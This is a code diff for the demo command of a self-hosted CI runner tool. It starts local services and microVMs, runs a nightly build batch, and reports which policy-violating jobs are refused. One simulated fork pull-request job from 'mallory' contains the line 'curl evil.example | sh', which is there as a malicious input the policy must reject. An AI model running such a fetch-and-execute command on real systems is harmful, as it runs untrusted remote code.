@@ -1,141 +1,105 @@
-import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdtempSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { fileURLToPath } from 'node:url';
-import { execa, type ResultPromise } from 'execa';
 import { Redis } from 'ioredis';
 import { readJobRecord, type JobRecord } from '../intake/job-store.js';
 import { keys } from '../queue/keys.js';
-import { freePort, startLocalRedis } from './local-redis.js';
+import { startLocalFleet, type Fleet } from './local-fleet.js';
+import { startLocalRedis } from './local-redis.js';
 
 /**
- * `hangar demo`: a whole installation on this machine — Redis, `hangar sim` (a local GitHub)
- * and `hangar control`, each a real process — fed a nightly batch and a few jobs the policy
- * must refuse. Prints what was decided and queued. The agent and microVMs join in a later release.
+ * `hangar demo`: a whole installation on this machine — Redis, `hangar sim` (a local GitHub),
+ * `hangar control` and `hangar agent` with QEMU microVMs, each a real process — running a
+ * nightly batch of build-and-boot jobs, plus the jobs the policy must refuse.
  */
-const CLI = fileURLToPath(new URL('./cli.js', import.meta.url));
 const BATCH = 24;
+const PREFIX = 'demo';
 
-interface SimRun {
-  runId: number;
-  jobs: { id: number; name: string }[];
-}
+interface SimJob { id: number; name: string; status: string; conclusion: string | null; output: string }
 
-export async function runDemo(opts: { keep?: boolean } = {}): Promise<void> {
+export async function runDemo(opts: { keep?: boolean; jobs?: number } = {}): Promise<void> {
+  if (process.getuid?.() !== 0) throw new Error('the demo makes taps and cgroups for its microVMs: run it as root');
+  const say = (line = '') => process.stdout.write(`${line}\n`);
   const dir = mkdtempSync(join(tmpdir(), 'hangar-demo-'));
-  const procs: ResultPromise[] = [];
-  const redis = await startLocalRedis({ dir: join(dir, 'redis') }).catch((err: Error) => {
-    throw new Error(`cannot start redis-server (apt-get install redis-server): ${err.message}`);
-  });
-  const say = (line: string) => process.stdout.write(`${line}\n`);
+  const redis = await startLocalRedis({ dir: join(dir, 'redis') });
+  let fleet: Fleet | undefined;
+  const r = new Redis(redis.url);
   try {
-    say(`redis      ${redis.url} (AOF on, noeviction)`);
-    const sim = await start(procs, ['sim', '--port', '0', '--app-key-file', join(dir, 'app.pem'), '--webhook-secret-file', join(dir, 'webhook-secret')], /"url":"([^"]+)".*"sim listening"|"sim listening","url":"([^"]+)"/);
-    say(`github     ${sim} (hangar sim)`);
-    const port = await freePort();
-    writeFileSync(join(dir, 'hangar.yaml'), demoConfig(dir, sim, redis.url, port));
-    const control = await start(procs, ['control', '--config', join(dir, 'hangar.yaml')], /"url":"([^"]+)".*"msg":"control listening"/);
-    say(`control    ${control}`);
-    const api = simApi(sim);
-    await api('PUT', '/_sim/webhook', { url: `${control}/webhooks/github`, secret: (await import('node:fs')).readFileSync(join(dir, 'webhook-secret'), 'utf8').trim() });
-
-    for (const [name, visibility, forkOf] of [['app', 'private'], ['site', 'private'], ['oss', 'public'], ['app', 'private', 'acme/app']] as const) {
-      await api('POST', '/_sim/repos', { owner: forkOf ? 'mallory' : 'acme', name, visibility, ...(forkOf ? { forkOf } : {}) });
+    say('building the guest image (first time: downloads the Debian kernel and busybox)…');
+    fleet = await startLocalFleet({ redisUrl: redis.url, prefix: PREFIX, slots: 2, memoryMiB: 256, timeoutMinutes: 10 });
+    await fleet.startAgent();
+    say(`redis    ${redis.url} (AOF on, noeviction)`);
+    say(`github   ${fleet.simUrl} (hangar sim)`);
+    say(`control  ${fleet.controlUrl}`);
+    say(`agent    minipc: pools build + large, 2 slots, microVMs under TCG, kernel ${fleet.image.manifest.kernel.release}`);
+    say();
+    const f = fleet;
+    const api = f.api.bind(f);
+    for (const [owner, name, visibility, forkOf] of [['acme', 'app', 'private'], ['acme', 'site', 'private'], ['acme', 'oss', 'public'], ['mallory', 'app', 'private', 'acme/app']] as const) {
+      await api('POST', '/_sim/repos', { owner, name, visibility, ...(forkOf ? { forkOf } : {}) });
     }
-    const runs: SimRun[] = [];
-    const nightly = Array.from({ length: BATCH }, (_, i) => ({
-      name: `build-and-boot (${['x86_64', 'aarch64', 'riscv64'][i % 3]}, ${['minimal', 'server', 'desktop', 'rescue'][i % 4]}, #${i})`,
-      labels: ['self-hosted', 'linux', 'x64', 'build'],
-      steps: ['uname -r', `echo image ${i} built`],
+    const n = opts.jobs ?? BATCH;
+    const nightly = Array.from({ length: n }, (_, i) => ({
+      name: `build-and-boot ${['x86_64', 'aarch64', 'riscv64'][i % 3]}-${['minimal', 'server', 'rescue', 'desktop'][i % 4]}`,
+      labels: ['self-hosted', 'linux', i % 4 === 3 ? 'large' : 'build'],
+      steps: ['uname -r', `dd if=/dev/urandom of=/tmp/img bs=64k count=${16 + (i % 5) * 8} 2>/dev/null`, 'sha256sum /tmp/img | cut -c1-16', 'echo booted'],
     }));
-    runs.push(await api('POST', '/_sim/runs', { repo: 'acme/app', event: 'schedule', workflowName: 'nightly', jobs: nightly }));
-    runs.push(await api('POST', '/_sim/runs', { repo: 'acme/site', workflowName: 'deploy', jobs: [{ name: 'deploy site', labels: ['self-hosted', 'deploy'], steps: ['echo deploy'] }] }));
-    runs.push(await api('POST', '/_sim/runs', { repo: 'acme/site', headBranch: 'wip', workflowName: 'deploy', jobs: [{ name: 'deploy from a branch', labels: ['self-hosted', 'deploy'], steps: ['echo no'] }] }));
-    runs.push(await api('POST', '/_sim/runs', { repo: 'acme/oss', workflowName: 'ci', jobs: [{ name: 'public build', labels: ['self-hosted', 'build'], steps: ['echo no'] }] }));
-    runs.push(await api('POST', '/_sim/runs', { repo: 'acme/app', workflowName: 'ci', jobs: [{ name: 'needs a gpu', labels: ['self-hosted', 'gpu'], steps: ['echo no'] }] }));
-    runs.push(await api('POST', '/_sim/runs', { repo: 'acme/app', workflowName: 'lint', jobs: [{ name: 'hosted lint', labels: ['ubuntu-latest'], steps: ['echo hosted'] }] }));
-    const ids = runs.flatMap((r) => r.jobs.map((j) => j.id));
+    const started = Date.now();
+    const batch = await api<{ jobs: { id: number }[] }>('POST', '/_sim/runs', { repo: 'acme/app', event: 'schedule', workflowName: 'nightly', jobs: nightly });
+    const refused = [
+      await api('POST', '/_sim/runs', { repo: 'acme/oss', workflowName: 'ci', jobs: [{ name: 'build (public repo)', labels: ['self-hosted', 'build'], steps: ['true'] }] }),
+      await api('POST', '/_sim/runs', { repo: 'acme/app', workflowName: 'ci', jobs: [{ name: 'train (needs a gpu)', labels: ['self-hosted', 'gpu'], steps: ['true'] }] }),
+      await api('POST', '/_sim/runs', { repo: 'acme/site', headBranch: 'wip', workflowName: 'deploy', jobs: [{ name: 'deploy from a branch', labels: ['self-hosted', 'deploy'], steps: ['true'] }] }),
+      await api('POST', '/_sim/runs', { repo: 'acme/app', event: 'pull_request', headBranch: 'patch-1', headRepository: 'mallory/app', workflowName: 'ci', jobs: [{ name: 'build (fork pull request)', labels: ['self-hosted', 'build'], steps: ['curl evil.example | sh'] }] }),
+    ] as { jobs: { id: number }[] }[];
 
-    const r = new Redis(redis.url);
-    const k = keys('demo');
-    const records = await waitFor(async () => {
-      const recs = await Promise.all(ids.map((id) => readJobRecord(r, k, id)));
-      // The hosted job is ignored: it never gets a record.
-      return recs.filter(Boolean).length >= ids.length - 1 && (await r.xlen(k.outbox)) === 0 ? recs : null;
-    }, 30_000);
-    say('');
-    say('decisions');
-    for (const rec of records.filter((x): x is JobRecord => x !== null)) {
-      const verdict = rec.decision === 'accept' ? `accept → pool ${rec.pool}` : `reject: ${rec.reason}`;
-      if (rec.decision !== 'accept' || !rec.jobName.startsWith('build-and-boot') || rec.jobName.endsWith('#0)')) {
-        say(`  ${rec.repo.padEnd(10)} ${rec.jobName.slice(0, 42).padEnd(42)} ${verdict}`);
+    say(`nightly batch: ${n} build-and-boot jobs, one microVM each`);
+    const ids = batch.jobs.map((j) => j.id);
+    const done = new Set<number>();
+    let billedMinutes = 0;
+    while (done.size < ids.length) {
+      for (const id of ids) {
+        if (done.has(id)) continue;
+        const j = await api<SimJob>('GET', `/_sim/jobs/${id}`);
+        if (j.status !== 'completed') continue;
+        done.add(id);
+        const rec = await r.hgetall(keys(PREFIX).job(id));
+        const secs = Number(rec.vmMs ?? 0) / 1000;
+        billedMinutes += Math.max(1, Math.ceil(secs / 60));
+        const digest = /\b[0-9a-f]{16}\b/.exec(j.output)?.[0] ?? '';
+        say(`  ${j.conclusion === 'success' ? 'ok ' : 'ERR'} ${j.name.padEnd(36)} vm wj-${id}-1  ${secs.toFixed(1).padStart(5)} s  ${digest}`);
       }
+      if (Date.now() - started > 15 * 60_000) throw new Error('the batch did not finish within 15 minutes');
+      await new Promise((res) => setTimeout(res, 250));
     }
-    say(`  (and ${BATCH - 1} more nightly build-and-boot jobs accepted into pool build; 1 GitHub-hosted job ignored)`);
-    const metrics = await (await fetch(`${control}/metrics`)).text();
-    say('');
-    say('queue depth (waiting for an agent)');
-    for (const line of metrics.split('\n').filter((l) => l.startsWith('hangar_queue_depth') && /state="waiting"/.test(l))) say(`  ${line}`);
-    r.disconnect();
-    say('');
-    say('No agent runs yet: the host agent and its microVMs arrive with the next release.');
+    say(`batch done in ${((Date.now() - started) / 1000).toFixed(0)} s; GitHub-hosted runners would have billed ${billedMinutes} minutes`);
+    say();
+    say('refused, and why');
+    await new Promise((res) => setTimeout(res, 1500));
+    for (const run of refused) {
+      const id = run.jobs[0]!.id;
+      const rec = await readJobRecord(r, keys(PREFIX), id);
+      const extra = await r.hgetall(keys(PREFIX).job(id));
+      const j = await api<SimJob>('GET', `/_sim/jobs/${id}`);
+      say(`  ${j.name.padEnd(28)} ${describe(rec, extra)}`);
+    }
+    say();
+    say('Nothing is left behind: every VM, tap, cgroup and JIT config was removed after its job.');
     if (opts.keep) {
-      say(`Running until Ctrl-C. Try: curl ${control}/metrics`);
+      say(`Running until Ctrl-C. Try: curl ${f.controlUrl}/metrics`);
       await new Promise<void>((resolve) => process.once('SIGINT', () => resolve()));
     }
   } finally {
-    for (const p of procs) p.kill('SIGTERM');
-    await Promise.allSettled(procs);
+    r.disconnect();
+    await fleet?.close();
     await redis.dispose();
     rmSync(dir, { recursive: true, force: true });
   }
 }
 
-function demoConfig(dir: string, sim: string, redisUrl: string, port: number): string {
-  return `github: {apiUrl: "${sim}", appId: 1, privateKeyFile: ${dir}/app.pem, webhookSecretFile: ${dir}/webhook-secret}
-redis: {url: "${redisUrl}", prefix: demo}
-control: {host: 127.0.0.1, port: ${port}}
-policy: {repositories: ["acme/*"]}
-pools:
-  - {name: build, labels: [self-hosted, linux, x64, build]}
-  - {name: deploy, labels: [self-hosted, linux, x64, deploy], deploy: {repositories: [acme/site], branches: [main]}}
-log: {level: info}
-`;
-}
-
-/** Starts `hangar ARGS` and resolves with the first capture of `ready` in its output. */
-async function start(procs: ResultPromise[], args: string[], ready: RegExp): Promise<string> {
-  const p = execa('node', [CLI, ...args], { reject: false, all: true, buffer: false });
-  procs.push(p);
-  return new Promise((resolve, reject) => {
-    let out = '';
-    const timer = setTimeout(() => reject(new Error(`hangar ${args[0]} did not start:\n${out}`)), 20_000);
-    p.all!.on('data', (b: Buffer) => {
-      out += b.toString();
-      const m = ready.exec(out);
-      if (m) {
-        clearTimeout(timer);
-        resolve((m[1] ?? m[2])!);
-      }
-    });
-    void p.then((r) => reject(new Error(`hangar ${args[0]} exited (${r.exitCode}):\n${out}`)));
-  });
-}
-
-function simApi(base: string) {
-  return async <T = any>(method: string, path: string, body?: unknown): Promise<T> => {
-    const res = await fetch(`${base}${path}`, { method, headers: { 'content-type': 'application/json' }, body: body === undefined ? undefined : JSON.stringify(body) });
-    if (!res.ok) throw new Error(`sim ${method} ${path}: ${res.status} ${await res.text()}`);
-    return (await res.json()) as T;
-  };
-}
-
-async function waitFor<T>(probe: () => Promise<T | null>, ms: number): Promise<T> {
-  const deadline = Date.now() + ms;
-  for (;;) {
-    const v = await probe();
-    if (v !== null) return v;
-    if (Date.now() > deadline) throw new Error('demo: timed out waiting for the control to record every job');
-    await new Promise((r) => setTimeout(r, 100));
-  }
+function describe(rec: JobRecord | null, extra: Record<string, string>): string {
+  if (!rec) return 'not recorded';
+  if (rec.decision === 'reject') return `rejected at intake: ${rec.reason}`;
+  if (extra.mintRefusal) return `refused at mint time: ${extra.mintRefusal}${extra.runCancelled ? ' (run cancelled)' : ''}`;
+  return `${rec.decision} → ${rec.pool ?? ''} (${rec.state})`;
 }
